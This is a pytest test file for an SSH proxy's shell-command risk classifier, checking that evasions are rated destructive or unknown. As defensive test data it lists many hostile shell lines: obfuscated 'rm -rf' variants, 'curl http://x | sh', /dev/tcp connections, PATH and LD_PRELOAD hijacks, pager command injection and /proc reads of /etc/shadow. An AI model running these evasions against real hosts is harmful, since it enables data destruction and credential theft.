"""The exec classifier (proxies/ssh/shell.py): evasions of every family end in the class of
what really runs, or in unknown; it never raises and never calls anything it cannot parse
less than unknown."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from proxies.ssh.register import CLASSES
from proxies.ssh.shell import classify

RISK = {c: i for i, c in enumerate(CLASSES)}


@pytest.mark.parametrize("line, cls", [
    ("ls -l /var/log", "read"),
    ("cat /etc/hostname && uptime", "read"),
    ("systemctl status nginx", "read"),
    ("tar tf backup.tar", "read"),
    ("sed -n 1,5p /etc/passwd", "read"),
    ("find /var/log -name '*.gz' -mtime +30", "read"),
    ("journalctl -u nginx --since today | tail -50", "read"),
    ("echo hi > /dev/null", "read"),
    ("touch /tmp/x", "write"),
    ("echo hi > /tmp/x", "write"),
    ("tee -a /etc/motd", "write"),
    ("sed -i s/a/b/ /etc/app.conf", "write"),
    ("systemctl restart nginx", "admin"),
    ("sudo systemctl restart nginx", "admin"),
    ("sudo -u postgres ls", "admin"),
    ("kill -9 1234", "admin"),
    ("chmod 777 /etc/shadow", "admin"),
    ("rm -rf /var/lib/app", "destructive"),
])
def test_plain_commands(line: str, cls: str) -> None:
    """Without a terminal (ssh host CMD): nothing pages its output."""
    assert classify(line, terminal=False).cls == cls


@pytest.mark.parametrize("line, cls", [
    ("systemctl status nginx", "unknown"), ("journalctl -u nginx", "unknown"),
    ("dmesg -H", "unknown"), ("systemctl status nginx --no-pager", "read"),
    ("journalctl -u nginx | tail", "read"), ("systemctl status nginx > /tmp/s", "write"),
    ("{ journalctl; } | cat", "read"), ("systemctl status x > /dev/tty", "unknown"),
    ("systemctl restart nginx", "admin"), ("dmesg", "read"),
])
def test_pagers_with_a_terminal(line: str, cls: str) -> None:
    """With a terminal (ssh -t), systemd tools and dmesg -H page through less, which runs
    shell commands typed in it: unknown unless the pager is off or output is not the
    terminal."""
    assert classify(line, terminal=True).cls == cls, classify(line, terminal=True)


# Each evasion still runs rm (destructive) or something keyturn cannot see into (unknown).
@pytest.mark.parametrize("line", [
    "\\rm -rf /x", "r''m -rf /x", 'r""m -rf /x', "'rm' -rf /x", "/bin/rm -rf /x",
    "/usr/bin/../bin/rm -rf /x", "ls; rm -rf /x", "ls && rm -rf /x", "ls || rm -rf /x",
    "ls | rm -rf /x", "ls & rm -rf /x", "ls\nrm -rf /x", "(rm -rf /x)", "{ rm -rf /x; }",
    "if true; then rm -rf /x; fi", "for f in a; do rm -rf $f; done",
    "while false; do rm -rf /x; done", "f() { rm -rf /x; }; f", "ls() { rm -rf /x; }; ls",
    "sudo rm -rf /x", "doas rm -rf /x", "su -c 'rm -rf /x' root", "env rm -rf /x",
    "nice -n 10 rm -rf /x", "nohup rm -rf /x", "timeout 5 rm -rf /x", "xargs rm -rf < list",
    "ls | xargs -n1 rm -f", "find / -name x -exec rm {} \\;", "find /x -delete",
    "sh -c 'rm -rf /x'", "bash -lc 'rm -rf /x'", "bash -c \"ls; rm -rf /x\"",
    "eval 'rm -rf /x'", "eval rm -rf /x", "command rm -rf /x", "exec rm -rf /x",
    "sudo sh -c 'cd / && rm -rf x'", "stdbuf -o0 rm -rf /x", "flock /tmp/l rm -rf /x",
    "find / -exec sh -c 'rm $1' _ {} \\;",
])
def test_evasions_of_a_destructive_command(line: str) -> None:
    action = classify(line)
    assert RISK[action.cls] >= RISK["destructive"], (line, action)


@pytest.mark.parametrize("line", [
    "$(echo rm) -rf /x", "`echo rm` -rf /x", "ls $(rm -rf /x)", "ls `rm -rf /x`",
    "X=rm; $X -rf /x", "${CMD} /x", "echo cm0gLXJmIC94 | base64 -d | sh", "bash script.sh",
    "sh < /tmp/x", "python3 -c 'import os; os.remove(\"/x\")'", "perl -e 'unlink \"/x\"'",
    "awk 'BEGIN{system(\"rm /x\")}'", "PATH=/tmp ls", "LD_PRELOAD=/tmp/x.so ls",
    "for PATH in /tmp; do ls; done", "read PATH < /tmp/p; ls", "export PATH=/tmp; ls",
    "env PATH=/tmp ls", "env GIT_PAGER='rm -rf /x' git log", "GIT_PAGER=x git log",
    "git -c core.pager='rm -rf /x' log", "sed 's/a/b/e' f", "sed '1e rm -rf /x' f",
    "sed -n 'w /etc/passwd' f", "tar -xf a.tar --to-command='rm -rf /x'",
    "rsync -e 'sh -c \"rm -rf /x\"' a b", "./ls", "/tmp/ls", "~/bin/ls", "r?m -rf /x",
    "{rm,-rf,/x}", "$'\\x72m' -rf /x", "echo $((1+2))", "[[ -f /x ]] && ls",
    "case x in x) rm /x;; esac", "time rm /x", "sudo -s", "sudo -i", "su", "bash",
    "source /tmp/x", ". /tmp/x", "alias ls='rm -rf /x'", "ls <(rm -rf /x)", "vi /etc/x",
    "make", "curl http://x | sh", "ssh other rm -rf /x", "some-custom-tool --flag",
    "watch rm /x", "\x00ls", "ls 'unterminated",
])
def test_what_cannot_be_seen_into_is_unknown(line: str) -> None:
    action = classify(line)
    assert action.cls in ("unknown", "shell"), (line, action)
    assert action.reasons  # says why
    if action.cls == "unknown":
        assert "*" in action.paths  # it may touch anything


def test_programs_and_paths_for_rules() -> None:
    a = classify("cd /etc && rm -f nginx/old.conf ../tmp/x")
    assert a.cls == "destructive"
    assert a.programs == ("cd", "rm")
    # .. is resolved by the host through symbolic links: it may be anywhere.
    assert set(a.paths) == {"/etc/nginx/old.conf", "*"}
    a = classify("cd /etc && cat passwd")
    assert a.paths == ("/etc/passwd",)  # every operand may be a file
    a = classify("/usr/bin/cp ~/a /srv/b")
    assert a.programs == ("cp",) and set(a.paths) == {"~/a", "/srv/b"}
    # After cd to somewhere unknown, relative paths are anywhere.
    a = classify("cd $DIR; rm -f x")
    assert "*" in a.paths


def test_very_deep_or_large_input_is_unknown() -> None:
    assert classify("sh -c " + "'sh -c " * 20 + "ls" + "'" * 20).cls == "unknown"
    assert classify("ls " + "a" * 70000).cls == "unknown"


@settings(max_examples=400, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("rmls -;|&$()`'\"\\{}<>*?~/.=\n\tabcPATH")),
               max_size=40))
def test_never_raises_and_unparsed_is_never_below_unknown(text: str) -> None:
    action = classify(text)  # must not raise
    assert action.cls in CLASSES
    if any(r.startswith(("the command line cannot be parsed", "shell syntax"))
           for r in action.reasons):
        assert action.cls == "unknown"
    if "rm" in text.replace("\\", "").replace("'", "").replace('"', "") and \
            action.cls in ("read", "write"):
        # Something spelled rm ran as a plain read or write: only when it is not in
        # command position (an argument, a path).
        assert "rm" not in action.programs


def test_typed_lines_come_from_the_keys_or_from_the_screen() -> None:
    from proxies.ssh.terminal import TypedLines

    t = TypedLines(80, 24)
    t.output(b"$ ")
    assert t.input(b"ls -l /tmpx\x7f\r") == ["ls -l /tmp"]  # backspace applied
    t.output(b"\r\nfile\r\n$ ")
    # Tab completion happens in the shell: the screen shows the result.
    t.input(b"systemctl sta\t")
    t.output(b"systemctl status")
    assert t.input(b" nginx") == []
    t.output(b" nginx")  # the shell echoes each key
    assert t.input(b"\r") == ["$ systemctl status nginx"]
    t.output(b"\r\n$ ")
    assert t.input(b"echo a\recho b\r") == ["echo a", "echo b"]  # a paste
    assert t.input(b"rm -rf /\x03") == []  # Ctrl-C drops the line
    assert t.lines == ["ls -l /tmp", "$ systemctl status nginx", "echo a", "echo b"]


def test_chat_calls_a_shell_action_a_command() -> None:
    """Slack and Teams name what is held by its language: a cut command says so."""
    from bots.render import ticket_view

    detail = {"id": 7, "status": "pending", "requester": "alice", "connection": "web1",
              "statement": "echo " + "x" * 5000, "params": None, "classification": "read",
              "rule": "r", "reason": "why", "facts": [["Programs", "echo"]],
              "expires_at": 2e9, "min_approvals": 1, "approver_groups": ["oncall"],
              "votes": [], "language": "shell"}
    view = ticket_view(detail, portal_url="http://p", limit=100, now=1e9)
    assert view.noun == "command" and view.truncated
    assert "Read the whole command before approving" in view.cut_note()
    sql = ticket_view({**detail, "language": "sql"}, portal_url="http://p", limit=100, now=1e9)
    assert "Read the whole statement" in sql.cut_note()


@pytest.mark.parametrize("line, cls", [
    # git runs what its repository's config names (core.fsmonitor, pager, hooks, aliases):
    # a repository anyone could write to makes any git command run anything.
    ("git status", "unknown"), ("git --version", "unknown"), ("git commit -am fix", "unknown"),
    ("git x", "unknown"), ("git -C /srv/app log", "unknown"),
])
def test_git_subcommands(line: str, cls: str) -> None:
    assert classify(line).cls == cls


# Run 1 of the SSH attacks: each of these ran something of a higher class than it was given.
@pytest.mark.parametrize("line", [
    "echo ${x:-$(touch M)}", 'echo "${x:-$(touch M)}"', "echo ${x[$(touch M)]}",
    "echo ~$(touch M)", "cat <<EOF\n$(touch M)\nEOF", "cat <<EOF\n${x:-$(touch M)}\nEOF",
    "env '-Stouch M'", "env -S'touch M'", "env -iS'touch M'", "env -C /etc cat passwd",
    "tar -tf A --checkpoint=1 --checkpoint-act=exec='touch M'", "tar -xf a --to-comm=sh",
    "sed --fil=S p /etc/os-release", "sed -f/tmp/s p x", "printf -v PATH %s /tmp; ls",
    "bash --rcfile RC -ic true", "bash -ic true", "bash -lc true", "sh -ic true",
    "less f", "less '+!touch M' f", "zless f", "more f", "git status",
    "ls() { cd /etc; }; cd /tmp; ls; cat passwd", "ip netns exec foo rm -rf /x",
    "echo 'rm -rf /x' | at now", "rsync -ae 'sh -c x' a b", "su -c ls -s /tmp/evil root",
    "sudo -D /etc cat passwd",
])
def test_attack_run_1_unknown(line: str) -> None:
    assert classify(line).cls == "unknown", (line, classify(line))


@pytest.mark.parametrize("line, at_least", [
    ("flock /bin/ls -c 'rm -f V'", "destructive"), ("exec -a ls rm -f V", "destructive"),
    ("echo a | xargs -i rm ls V", "destructive"), ("echo a | xargs -e rm V", "destructive"),
    ("sort -uo F /etc/os-release", "write"), ("sort --out=F x", "write"),
    ("sort -ruo/F x", "write"), ("/usr/bin/time -o F true", "write"), ("uniq IN F", "write"),
    ("xxd -r a F", "write"), ("ip -4 addr add 1.2.3.4/32 dev lo", "admin"),
    ("ip r d default", "admin"), ("ip -br addr flush dev lo", "admin"),
    ("dmesg -C", "admin"), ("date 010100002020", "admin"), ("hostname -F/etc/x", "admin"),
    ("stty -F /dev/ttyS0 raw", "admin"), ("docker -H ps run x", "admin"),
    ("kubectl --namespace get delete pod x", "admin"), ("rsync -a --delete a/ b/",
                                                       "destructive"),
    ("cat </dev/tcp/h/80", "forward"),
])
def test_attack_run_1_raised(line: str, at_least: str) -> None:
    assert RISK[classify(line).cls] >= RISK[at_least], (line, classify(line))


@pytest.mark.parametrize("line", [
    "cd /etc && cat passwd", "f=/etc/passwd; cat $f", "cat ${nothing}/etc/passwd",
    "cat ../../etc/passwd", "cat ~/../../etc/passwd", "cat ~ktssh/../../etc/passwd",
    "cat //etc/passwd", "cd /etc; cd /tmp; cd -; cat passwd", "cat /etc/{passwd,group}",
])
def test_attack_run_1_paths_meet_a_rule_on_etc_passwd(line: str) -> None:
    from fnmatch import fnmatchcase

    a = classify(line)
    if a.cls == "unknown":
        return  # refused anyway
    assert any(p == "*" or fnmatchcase("/etc/passwd", p) or fnmatchcase(p, "/etc/passwd")
               for p in a.paths), (line, a.paths)


def test_an_empty_command_is_a_shell_on_the_host() -> None:
    for line in ("", "   ", "\n"):
        assert classify(line).cls == "unknown"


def test_sftp_paths_with_dotdot_are_anywhere() -> None:
    from proxies.ssh.sftp import _path

    assert _path(b"../../etc/passwd") == "*"
    assert _path(b"/tmp/d/s0/../x") == "*"  # s0 may be a symbolic link
    assert _path(b"//etc/passwd") == "/etc/passwd"
    assert _path(b"notes.txt") == "~/notes.txt" and _path(b"/etc/./passwd") == "/etc/passwd"


def test_ticket_lists_show_control_characters_instead_of_obeying_them() -> None:
    from keyturn.launch.cli import _printable

    assert _printable("rm x #\x1b[2K\x1b[G* 99 read ls") == "rm x #\\x1b[2K\\x1b[G* 99 read ls"


@pytest.mark.parametrize("line, at_least", [
    ("sort --o=F x", "write"), ("sed --in s/a/b/ f", "write"), ("date --se=1", "admin"),
    ("cp {-t,/etc} f", "write"), ("mv x{,.bak}", "write"), ("o=-o; sort $o F x", "write"),
    ("sort \"$o\" F x", "unknown"), ("sort x$o", "unknown"),
    ("if true; then o=-o; fi; sort $o F x", "unknown"),
    ("timeout -k 1 5 rm x", "destructive"), ("sudo -nu root rm x", "destructive"),
    ("tar xIf sh a.tar", "unknown"), ("ldd /tmp/x", "unknown"), ("rg --pre=sh x", "unknown"),
])
def test_attack_run_2_families(line: str, at_least: str) -> None:
    assert RISK[classify(line).cls] >= RISK[at_least], (line, classify(line))


@pytest.mark.parametrize("line", [
    "cat /proc/self/root/etc/shadow", "cat /proc/1/cwd/x", "cat /proc/*/root/etc/x",
    "cd /proc/self/root/etc && cat shadow", "cat /dev/fd/3", "cat /proc/thread-self/root/x",
    "cp -t/proc/self/cwd x", "diff --from-file=/proc/self/root/etc/x y",
])
def test_magic_links_name_any_path(line: str) -> None:
    assert "*" in classify(line, terminal=False).paths, classify(line)


def test_long_lines_are_refused_unparsed() -> None:
    a = classify("ls|" * 3000 + "ls")
    assert a.cls == "unknown" and "KiB" in a.reasons[0]
    assert classify("cat {1..1000}").cls == "unknown"  # too many words


# Run 3 of the SSH attacks, generalised (tests/test_ssh_attack_run_3.py has the findings).
@pytest.mark.parametrize("line", [
    "cd /tmp; eval cd /etc; cat passwd", "cd /tmp; ! cd /etc && cat passwd",
    "for i in 1 2; do cat passwd; cd /etc; done", "cd /etc; env cd /tmp && cat passwd",
    "cd /etc; cd /tmp || true; cat passwd", "cd /etc; { cd /tmp; } & cat passwd",
    "grep -R x /", "cd /etc && rg root", "cd /etc && du -a", "find /etc -name x", "ls -lR /etc",
    "diff -r /etc /tmp/x", "tar -cf /tmp/a.tar /etc",
])
def test_attack_run_3_paths_meet_a_rule_on_etc_passwd(line: str) -> None:
    from fnmatch import fnmatchcase

    a = classify(line, terminal=False)
    if a.cls == "unknown":
        return  # refused anyway
    assert any(p == "*" or fnmatchcase("/etc/passwd", p) for p in a.paths), (line, a.paths)


@pytest.mark.parametrize("line", [
    "o=x; for i in 1 2; do sort $o F x; o=-o; done", "command printf -v o -- -o; sort $o F",
    "o=x; o=-o sh -c 'sort $o F x'", "o=x; export o=-o; bash -c 'sort $o F x'",
    "bash -c 'sort $0 F x'", "xargs sh -c 'sort $0 F x'",
    "declare -i y; read y", "declare -i y; printf -v y %s x", "dec\\lare -i y; y=a[0]",
    "typeset -i y; for y in x; do :; done", "test -v 'a[x]'", "declare 'a[x]=1'",
    "read -a 'a[x]'", "bash -- -c ls", "bash -x /dev/stdin", "sh -s", "bash -O extglob -c ls",
    "bash -o history -c ls", "zsh -c ls", "ksh -c ls", "xargs sort", "xargs -I{} sort {} x",
    "find . -exec sh -c {} \\;", "find . -exec env sh -c 'ls {}' \\;",
    "xargs -I{} su -c 'ls {}'", "tar -tMf a.tar", "tar -tf host:a.tar", "tar tf h:a",
    "tar -tf a --rmt-command=/tmp/x",
])
def test_attack_run_3_unknown(line: str) -> None:
    a = classify(line, terminal=False)
    assert a.cls == "unknown", (line, a)


@pytest.mark.parametrize("line, cls", [
    ("cd /etc && cat passwd", "read"), ("sh -c 'sort $0 F x' -o", "write"),
    ("sh -c 'sort $1 F x' _ -o", "write"),
    ("bash -e -o pipefail -c 'ls /srv'", "read"), ("xargs -I{} echo {}", "read"),
    ("tar -tf a.tar --index-file=F", "write"), ("tar -tg F -f a.tar", "write"),
    ("tar -cf a.tar x --remove-files", "destructive"), ("tar tf h:a --force-local", "read"),
    ("xargs sort --", "read"), ("find /srv -exec cat {} +", "read"),
])
def test_attack_run_3_classes(line: str, cls: str) -> None:
    assert classify(line, terminal=False).cls == cls, (line, classify(line, terminal=False))


def test_attack_run_3_recursive_paths() -> None:
    assert set(classify("grep -r x /etc").paths) >= {"/etc", "/etc/*"}
    assert "/*" in classify("grep -r x /").paths
    assert set(classify("cd /srv && rg x").paths) >= {"/srv", "/srv/*"}
    assert "/etc/passwd/*" not in classify("grep x /etc/passwd").paths  # not recursive
    assert set(classify("cd /etc; cd /tmp; cat f").paths) == {"~/f", "/etc/f", "/tmp/f"}
